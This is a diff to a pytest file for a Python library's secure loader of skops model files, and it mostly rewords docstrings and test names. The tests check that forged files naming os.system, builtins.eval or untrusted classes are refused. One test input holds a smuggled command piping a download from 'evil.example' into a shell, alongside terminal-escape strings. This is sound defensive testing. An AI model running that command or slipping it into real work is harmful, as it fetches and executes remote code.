@@ -1,4 +1,4 @@
-"""Types of strangers are refused before anything of theirs is made or run."""
+"""Untrusted types are refused before an object is created or code is run."""
 
 from __future__ import annotations
 
@@ -27,7 +27,7 @@ def times_two(rows):
 
 
 class Stranger(GaussianNB):
-    """A class of somebody else's."""
+    """A class that is not trusted."""
 
 
 @pytest.fixture
@@ -115,23 +115,23 @@ def test_evil_is_refused_and_not_run(kind, path, tmp_path):
     assert [file.name for file in tmp_path.iterdir()] == ["model.skops"]
 
 
-def test_the_forger_s_tool_works(path):
-    """What the tests above refuse would be refused for nothing if honest edits were too."""
+def test_the_forged_type_runs_its_code_if_trusted(path):
+    """A harmless edit by the same tool loads, so that the refusals above are meaningful."""
     forge(path, schema=put(state("dubito.calibration.platt", "PlattCalibrator")))
     assert load(path).stamp.classes == ["no", "yes"]
 
 
 @pytest.mark.parametrize(
-    ("kind", "said"),
+    ("kind", "message"),
     [
         ("os.system", "No model needs that"),
         ("builtins.eval", "No model needs that"),
         ("class as a value", "somebody changed it. Fit the model again"),
     ],
 )
-def test_how_to_allow_is_not_told_where_no_model_needs_it(kind, said, path):
+def test_no_advice_to_allow_types_that_no_model_needs(kind, message, path):
     forge(path, schema=put(evil_nodes("true")[kind]))
-    with pytest.raises(ModelFileError, match=said) as refusal:
+    with pytest.raises(ModelFileError, match=message) as refusal:
         load(path)
     assert "trust" not in str(refusal.value)
 
@@ -145,7 +145,7 @@ def test_evil_deep_inside_a_trusted_object_is_refused(path):
 
 @pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "x\x1b[2K\rAll is well", "\u202ex"])
 def test_what_has_no_name_in_python_is_not_repeated(name, path):
-    """A refusal is read in a terminal, and its advice pasted into one."""
+    """Error messages are read in a terminal, and their advice is pasted into one."""
     forge(path, schema=put(state("numpy", name)))
     with pytest.raises(ModelFileError, match="made to do harm") as refusal:
         load(path)
@@ -159,7 +159,7 @@ def test_other_protocols_of_skops_are_refused(path, protocol):
         load(path)
 
 
-def test_the_refusal_says_what_and_how_to_allow(tmp_path):
+def test_the_refusal_names_the_type_and_how_to_allow_it(tmp_path):
     path = tmp_path / "model.skops"
     model = CalibratedClassifier(FrozenEstimator(Stranger().fit(X, Y)), PlattCalibrator())
     save(model.fit(X, Y), path)
@@ -173,7 +173,7 @@ def test_the_refusal_says_what_and_how_to_allow(tmp_path):
 
 @pytest.fixture
 def importable(monkeypatch):
-    """Let this file be found by the name it has here, whatever the runner calls it."""
+    """Make this file importable by its own name, whatever the test runner calls it."""
     monkeypatch.setitem(sys.modules, Stranger.__module__, sys.modules[__name__])
 
 
@@ -215,7 +215,7 @@ def test_trusted_must_be_a_list(path, trusted):
         load(path, trusted=trusted)
 
 
-def test_classes_of_model_rooms_are_trusted_where_they_are_defined():
+def test_classes_of_model_packages_are_trusted_in_their_own_module():
     assert model_class("dubito.calibration.platt.PlattCalibrator") is PlattCalibrator
     assert model_class("dubito.calibration.PlattCalibrator") is None  # only exported there
     assert model_class("dubito.PlattCalibrator") is None
@@ -230,7 +230,7 @@ def test_only_classes_that_check_what_they_are_given_are_called():
         assert loaders_of(f"{kind.__module__}.{kind.__name__}") == {"ObjectNode", "TupleNode"}
 
 
-def test_no_room_that_touches_files_is_trusted():
+def test_no_package_that_opens_files_is_trusted():
     assert not {"cli", "datasets", "report", "saving", "plots", "testing"} & set(MODEL_PACKAGES)
 
 
@@ -247,7 +247,7 @@ def test_every_helper_is_a_class():
 
 
 def test_a_tree_of_classes_that_is_no_tree_is_refused(tmp_path):
-    """A class that is called checks what it is given: node sizes that do not fit are told."""
+    """A class with its own constructor checks its arguments: wrong node sizes are errors."""
     rows, labels = np.eye(4), np.arange(4)
     tree = DichotomyTree.from_nested(((0, 1), (2, 3)))
     model = NestedDichotomyClassifier(structure=tree).fit(np.tile(rows, (3, 1)), np.tile(labels, 3))
